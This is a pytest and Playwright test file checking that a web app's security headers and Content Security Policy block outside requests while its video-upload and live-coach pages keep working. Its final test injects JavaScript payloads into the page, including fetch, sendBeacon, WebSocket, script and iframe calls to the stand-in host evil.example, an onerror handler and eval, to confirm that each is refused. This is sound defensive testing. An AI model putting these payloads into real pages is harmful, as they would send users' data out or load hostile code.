"""Every answer forbids the browser to fetch from elsewhere, and the pages still work under that."""

import http.client
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright

from formcheck.i18n import words
from formcheck.ui.headers import content_security_policy
from tests.ui.browsing import foreign, launch, note_requests, send, wait_until

TWO_PICTURES = Path(__file__).parents[1] / "two_pictures.mp4"
SAY = words("en")
HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "x-frame-options": "DENY",
    "cross-origin-resource-policy": "same-origin",
    "permissions-policy": "camera=(self), microphone=(self), display-capture=(), geolocation=()",
}
NOTE = """window.refusals = [];
document.addEventListener("securitypolicyviolation", (event) => {
    refusals.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
});"""

# One worker starts the app once.
pytestmark = pytest.mark.xdist_group("browser")


@pytest.mark.parametrize("host", [None, "evil.example"])
@pytest.mark.parametrize(
    "path", ["/", "/live", "/_stcore/health", "/_stcore/host-config", "/media/none", "/static/x"]
)
def test_every_answer_has_them(server: str, path: str, host: str | None) -> None:
    own = urlsplit(server).netloc
    line = http.client.HTTPConnection(own, timeout=30)
    line.request("GET", path, headers={"Host": host or own})
    answer = line.getresponse()
    line.close()
    assert HEADERS.items() <= {name.lower(): value for name, value in answer.getheaders()}.items()
    policy = answer.getheader("content-security-policy") or ""
    assert "frame-ancestors 'none'" in policy
    assert "default-src 'self'" in policy


def test_the_policy_names_nobody_else_and_allows_no_evaluation() -> None:
    allowed = {
        source
        for directive in content_security_policy(["let it = 1"]).split("; ")
        for source in directive.split()[1:]
    }
    hashed = {source for source in allowed if source.startswith("'sha256-")}
    assert len(hashed) == 1
    assert allowed - hashed == {
        "'self'", "'none'", "'unsafe-inline'", "'wasm-unsafe-eval'", "data:", "blob:",
    }  # fmt: skip
    script = next(d for d in content_security_policy([]).split("; ") if d.startswith("script-src"))
    assert script == "script-src 'self' blob: 'wasm-unsafe-eval'"


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    found = launch(playwright, "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream")
    yield found
    found.close()


@pytest.fixture(scope="module")
def visitor(browser: Browser) -> BrowserContext:
    """What was loaded once is not loaded again."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-GB")
    context.add_init_script(NOTE)
    return context


@pytest.fixture
def watched(visitor: BrowserContext) -> Iterator[tuple[Page, list[str]]]:
    page = visitor.new_page()
    page.set_default_timeout(90_000)
    yield page, note_requests(page)
    page.close()


def refusals(page: Page) -> list[str]:
    found: list[str] = page.evaluate("refusals")
    return found


def test_a_video_is_uploaded_and_looked_at_under_it(server: str, watched: tuple[Page, list[str]]) -> None:
    """Two pictures show too little to judge; tests/ui/test_review_page.py sees a whole one under it."""
    page, requested = watched
    page.goto(server)
    page.locator(".st-key-analyse button").wait_for()
    send(page, TWO_PICTURES)
    page.locator(".st-key-cannot").wait_for()
    assert page.locator("[data-testid=stException]").count() == 0
    assert page.evaluate("document.fonts.check('16px \"Source Sans\"')")
    assert refusals(page) == []
    assert foreign(requested) == []


def test_the_live_coach_works_under_it(server: str, watched: tuple[Page, list[str]]) -> None:
    page, requested = watched
    page.goto(f"{server}/live")
    page.locator(".launch").wait_for()
    page.locator(".st-key-live_keep label").click()
    page.wait_for_timeout(500)
    page.locator(".launch").click()
    page.locator("dialog.workout[data-stage=setup]").wait_for()
    wait_until(page, "formcheckStats.summary().steps > 3")
    assert refusals(page) == []
    assert foreign(requested) == []


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("document.body.append(Object.assign(new Image(), {src: 'http://evil.example/x.png'}))", "img-src"),
        ("fetch('http://evil.example/').catch(() => 0)", "connect-src"),
        ("try { new WebSocket('ws://evil.example/') } catch { 0 }", "connect-src"),
        ("navigator.sendBeacon('http://evil.example/', 'x')", "connect-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>')", "script-src-attr"),
        ("setTimeout(() => { try { eval('1') } catch { 0 } })", "script-src eval"),
        (
            "document.body.append(Object.assign(document.createElement('script'), {src: 'http://evil.example'}))",
            "script-src-elem",
        ),
        (
            "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example'}))",
            "frame-src",
        ),
    ],
)
def test_what_gets_into_the_page_all_the_same_reaches_nobody(
    server: str, watched: tuple[Page, list[str]], attempt: str, directive: str
) -> None:
    page, _ = watched
    page.goto(server)
    page.evaluate(f"() => {{ {attempt}; }}")
    wait_until(page, "wanted => refusals.some(each => each.startsWith(wanted))", arg=directive)
